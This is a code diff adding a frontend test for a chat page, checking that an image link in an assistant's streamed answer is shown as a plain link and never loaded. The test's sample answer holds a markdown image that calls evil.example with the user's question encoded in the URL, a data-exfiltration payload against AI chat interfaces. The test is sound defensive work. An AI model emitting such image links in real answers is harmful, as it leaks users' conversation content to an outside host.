@@ -132,6 +132,42 @@ describe('chat page (web.md §6)', { timeout: 30_000 }, () => {
     expect(within(article).getAllByText('Success').length).toBeGreaterThan(0);
   });
 
+  it('never loads an image the answer asks for (issue 19 defect 9)', async () => {
+    select();
+    const exfiltrate = 'Here you go. ![](https://evil.example/?d=How%20do%20I%20end%20the%20contract)';
+    const backend = hub(() =>
+      sseResponse([
+        ['retrieval_start', { sources: 0 }],
+        ['retrieval_complete', { total_documents: 0, time_ms: 1 }],
+        ['generation_start', { model: 'alice/assistant' }],
+        ['token', { content: exfiltrate }],
+        [
+          'done',
+          {
+            sources: {},
+            retrieval_info: [],
+            metadata: { retrieval_time_ms: 1, generation_time_ms: 1, total_time_ms: 2 },
+            response: exfiltrate,
+          },
+        ],
+      ]),
+    );
+    const { api } = testApi(backend.fetch, 'a1', 'r1');
+    const { container } = render(
+      <Providers api={api} route="/chat">
+        <ChatPage />
+      </Providers>,
+    );
+    await userEvent.type(await screen.findByRole('combobox', { name: 'Message' }), 'How do I end it?{Enter}');
+    const article = await screen.findByRole('article', { name: 'Answer from Assistant' });
+    await waitFor(() => expect(article.textContent).toContain('Here you go.'));
+    await waitFor(() =>
+      expect(within(article).getByRole('link', { name: /^Image: untitled/ })).toBeInTheDocument(),
+    );
+    expect(container.querySelector('img[src*="evil.example"]')).toBeNull();
+    expect(container.querySelectorAll('img')).toHaveLength(0);
+  });
+
   it('stops a running answer, keeps the partial text and labels it Stopped', async () => {
     select();
     const backend = hub(() => {
